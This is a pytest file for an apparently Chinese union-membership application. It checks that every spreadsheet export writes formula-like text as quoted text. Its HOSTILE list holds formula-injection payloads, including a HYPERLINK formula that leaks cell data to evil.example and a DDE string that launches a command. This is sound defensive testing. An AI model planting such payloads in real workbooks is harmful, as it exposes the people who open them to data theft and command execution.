"""Formula injection: text that starts like a formula goes into every workbook we write as
text (quote-prefixed), never as a formula — the helper, each writer, and a guard that no
module writes a workbook any other way."""

import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from unionworks.core.importing.reading import RejectsWriter, RowError
from unionworks.core.models import Task
from unionworks.core.spreadsheets import append_row, new_workbook, save_workbook
from unionworks.core.tests.factories import OrgFactory, UnitFactory, login_as
from unionworks.members.models import Member
from unionworks.members.tests.factories import join
from unionworks.orgs.models import Org

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
NAME = HOSTILE[0]


def formulas_in(data: bytes) -> list[str]:
    """The <f> elements of every sheet of the .xlsx ``data``."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return [
            f
            for name in book.namelist()
            if name.startswith("xl/worksheets/")
            for f in re.findall(r"<f[ >].*?</f>", book.read(name).decode())
        ]


def assert_text_only(data: bytes, *expected: str) -> None:
    assert formulas_in(data) == []
    cells = {
        cell.value: cell
        for sheet in load_workbook(io.BytesIO(data)).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for text in expected:
        cell = next((c for v, c in cells.items() if text in v), None)
        assert cell is not None, text
        assert cell.data_type == "s" and cell.quotePrefix, text


@pytest.mark.parametrize("write_only", [True, False])
def test_every_formula_start_is_written_as_quoted_text(write_only):
    book = new_workbook(write_only=write_only)
    sheet = book.create_sheet("表") if write_only else book.active
    append_row(sheet, ["姓名", 12, -3, dt.date(2008, 1, 1)])
    for text in HOSTILE:
        append_row(sheet, [text, "张三"])
    if not write_only:
        sheet["E1"] = "=1+2"  # set directly: made safe on the way out
    data = save_workbook(book)
    assert formulas_in(data) == []
    values = [c.value for row in load_workbook(io.BytesIO(data)).worksheets[0] for c in row]
    assert all(text in values for text in HOSTILE), "kept exactly as typed"
    assert 12 in values and -3 in values, "numbers stay numbers"
    assert_text_only(data, *HOSTILE)


def test_plain_openpyxl_would_have_written_a_formula():
    """The hazard the helper closes (if openpyxl ever stops doing this, the guard is moot)."""
    book = Workbook()
    book.active.append([NAME])
    buffer = io.BytesIO()
    book.save(buffer)
    assert formulas_in(buffer.getvalue())


def test_rejected_rows_workbook_keeps_uploaded_text_as_text(tmp_path):
    writer = RejectsWriter(tmp_path / "rejects.xlsx", ["姓名", "工作单位"])
    writer.add([NAME, "@单位"], [RowError(2, "姓名", "姓名格式不对")])
    path = writer.close()
    assert_text_only(path.read_bytes(), NAME, "@单位")


@pytest.fixture
def eager_tasks(settings, tmp_path):
    settings.TASKS_MODE = "eager"
    settings.MEDIA_ROOT = tmp_path


def download(client, task) -> bytes:
    return b"".join(client.get(f"/tasks/{task.pk}/download/").streaming_content)


def test_roll_export_writes_hostile_unit_and_org_names_as_text(client, world, eager_tasks):
    union = OrgFactory(name="=1+1工会", kind=Org.Kind.GRASSROOTS, parent=world["township"])
    unit = UnitFactory(name=NAME, org=world["township"], union=union)
    join(union, unit=unit, name="王建国", on=dt.date(2008, 1, 1))
    login_as(client, world["taiyuan_admin"])
    client.post("/members/export/", {})
    assert_text_only(download(client, Task.objects.latest("id")), NAME, "=1+1工会")


def test_roll_upload_rejects_come_back_as_text(client, world, eager_tasks):
    book = Workbook()
    sheet = book.active
    sheet.append(["姓名", "公民身份号码", "工作单位", "入会时间"])
    sheet.append(["张三", "+86 bad", "@单位", "2008-01-05"])
    upload = io.BytesIO()
    book.save(upload)
    upload.seek(0)
    upload.name = "roll.xlsx"
    login_as(client, world["taiyuan_admin"])
    client.post("/imports/roll/", {"org": world["grassroots"].pk, "file": upload})
    assert Member.objects.count() == 0
    assert_text_only(download(client, Task.objects.latest("id")), "+86 bad", "@单位")


def test_coverage_and_indicator_exports_write_hostile_org_names_as_text(client, world):
    OrgFactory(name="-1+cmd工会", kind=Org.Kind.GRASSROOTS, parent=world["taiyuan"])
    login_as(client, world["taiyuan_admin"])
    taiyuan = world["taiyuan"].pk
    for url in (
        f"/members/coverage/export/?org={taiyuan}",
        f"/stats/indicators/export/?org={taiyuan}&indicators=members",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        data = b"".join(response.streaming_content) if response.streaming else response.content
        assert_text_only(data, "-1+cmd工会")


def test_target_template_writes_hostile_org_names_as_text(world):
    from unionworks.stats.importers import target_template

    OrgFactory(name="=SUM(1)工会", kind=Org.Kind.COUNTY, parent=world["taiyuan"])
    assert_text_only(target_template(world["taiyuan_admin"]), "=SUM(1)工会")


def test_no_module_writes_a_workbook_around_the_helper():
    """Every writer goes through core.spreadsheets (new exports included): outside it, no
    module builds an openpyxl Workbook or write-only cell or saves a workbook itself."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or path.name == "spreadsheets.py":
            continue
        text = path.read_text()
        if "openpyxl" not in text:
            continue
        if re.search(r"\bWorkbook\(|WriteOnlyCell|import Workbook|\.save\(", text):
            offenders.append(str(path.relative_to(root)))
    assert offenders == [], "use core.spreadsheets (new_workbook/append_row/save_workbook)"
